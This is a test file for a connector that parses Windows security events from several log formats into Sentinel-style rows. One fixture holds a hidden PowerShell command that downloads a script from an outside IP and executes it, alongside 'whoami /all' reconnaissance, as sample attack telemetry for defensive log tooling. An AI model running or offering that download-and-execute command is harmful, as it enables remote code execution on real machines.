import assert from "node:assert/strict";
import { windowsSecurityConnector } from "./windows_security_connector.ts";

const receivedAt = new Date("2024-02-10T12:00:00Z");
const read = (name: string) => Deno.readFileSync(new URL(`./testdata/${name}`, import.meta.url));
const parse = (body: Uint8Array) => windowsSecurityConnector.parse(body, { receivedAt });

Deno.test("windowsSecurityConnector maps Windows Event XML like Sentinel's SecurityEvent", () => {
  const result = parse(read("events_4624_4688.xml"));
  assert.equal(result.errors.length, 0);
  const [logon, process] = result.records.map((record) => record.row);
  assert.equal(logon.TimeGenerated, "2015-11-12T00:24:35.079785Z");
  assert.equal(logon.EventID, 4624);
  assert.equal(logon.Activity, "4624 - An account was successfully logged on.");
  assert.equal(logon.Computer, "WIN-GG82ULGC9GO");
  assert.equal(logon.Account, "WIN-GG82ULGC9GO\\Administrator");
  assert.equal(logon.SubjectAccount, "WORKGROUP\\WIN-GG82ULGC9GO$");
  assert.equal(logon.AccountType, "User");
  assert.equal(logon.LogonType, 2);
  assert.equal(logon.LogonTypeName, "2 - Interactive");
  assert.equal(logon.Process, "svchost.exe");
  assert.equal(logon.IpAddress, "127.0.0.1");
  assert.equal(logon.TransmittedServices, undefined, "a '-' placeholder is no value");
  assert.equal(logon.Task, 12544);
  assert.match(
    String(logon.EventData),
    /^<EventData xmlns=.*<Data Name="TargetUserName">Administrator<\/Data>/,
  );

  assert.equal(
    process.CommandLine,
    `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a.ps1') & echo <done>"`,
  );
  assert.equal(process.Process, "powershell.exe");
  assert.equal(process.Account, "CONTOSO\\alice");
  assert.equal(process.ParentProcessName, "C:\\Windows\\explorer.exe");
});

Deno.test("windowsSecurityConnector maps Winlogbeat events and rejects a bad one by index", () => {
  const result = parse(read("winlogbeat_4625.ndjson"));
  const failed = result.records[0].row;
  assert.equal(failed.TimeGenerated, "2024-02-10T09:00:01.250Z");
  assert.equal(failed.EventID, 4625);
  assert.equal(failed.Account, "CONTOSO\\bob");
  assert.equal(failed.SubjectAccount, undefined);
  assert.deepEqual([failed.Status, failed.SubStatus, failed.IpAddress], [
    "0xc000006d",
    "0xc000006a",
    "203.0.113.77",
  ]);
  assert.equal(failed.WorkstationName, "KALI");
  assert.equal(failed.LogonTypeName, "3 - Network");
  assert.equal(result.records[1].row.Activity, "4740 - A user account was locked out.");
  assert.equal(result.errors.length, 1);
  assert.equal(result.errors[0].index, 2);
  assert.match(result.errors[0].message, /^Invalid Winlogbeat event: "winlog.event_id"/);
});

Deno.test("windowsSecurityConnector maps NXLog's flat JSON", () => {
  const row = parse(read("nxlog_4688.json")).records[0].row;
  assert.equal(row.TimeGenerated, "2024-02-10T10:30:00.000Z");
  assert.equal(row.Computer, "SRV02.contoso.local");
  assert.equal(row.EventSourceName, "Microsoft-Windows-Security-Auditing");
  assert.equal(row.CommandLine, "cmd.exe /c whoami /all");
  assert.equal(row.Process, "cmd.exe");
  assert.equal(row.Account, "CONTOSO\\svc_backup");
  assert.equal(row.MandatoryLabel, "S-1-16-16384");
  assert.equal(row.SourceModuleName, undefined, "NXLog's own fields are not event data");
});

Deno.test("windowsSecurityConnector passes Sentinel-shaped records through (Sentinel sample export)", () => {
  const path = new URL(
    "../../../shared/data/sentinel-samples/SecurityEvent/RiskIQ_scenrio.json",
    import.meta.url,
  );
  const samples = JSON.parse(Deno.readTextFileSync(path)) as Record<string, unknown>[];
  const result = parse(Deno.readFileSync(path));
  assert.equal(result.errors.length, 0);
  assert.equal(result.records.length, samples.length);
  result.records.forEach(({ row }, i) => {
    assert.equal(row.EventID, Number(samples[i].EventID));
    assert.equal(row.Computer, samples[i].Computer);
    assert.equal(row.Activity, samples[i].Activity);
    assert.equal(typeof row.TimeGenerated, "string");
  });
});

Deno.test("windowsSecurityConnector reports broken XML with its position", () => {
  const result = parse(new TextEncoder().encode("<Event>\n  <System><EventID>1</EventID></Sys>\n</Event>"));
  assert.equal(result.records.length, 0);
  assert.match(
    result.errors[0].message,
    /^Cannot parse Windows event XML: mismatched closing tag "Sys": expected "System" at line 2, column 31 \(byte 38\)$/,
  );
  const missing = parse(new TextEncoder().encode("<Event><System/></Event>"));
  assert.equal(missing.errors[0].message, "Invalid Windows event XML: missing or non-numeric EventID");
  assert.equal(missing.errors[0].raw, "<Event><System/></Event>");
});

Deno.test("windowsSecurityConnector reads Fluent Bit winevtlog records (TimeCreated, ProviderName)", () => {
  const record = {
    ProviderName: "Microsoft-Windows-Security-Auditing",
    EventID: 4740,
    Computer: "dc01.contoso.local",
    TimeCreated: "2024-02-10 09:15:00 +0100",
    Channel: "Security",
  };
  const row = parse(new TextEncoder().encode(JSON.stringify(record))).records[0].row;
  assert.deepEqual([row.EventSourceName, row.Activity], [
    "Microsoft-Windows-Security-Auditing",
    "4740 - A user account was locked out.",
  ]);
  assert.equal(row.TimeGenerated, "2024-02-10T08:15:00.000Z");
});
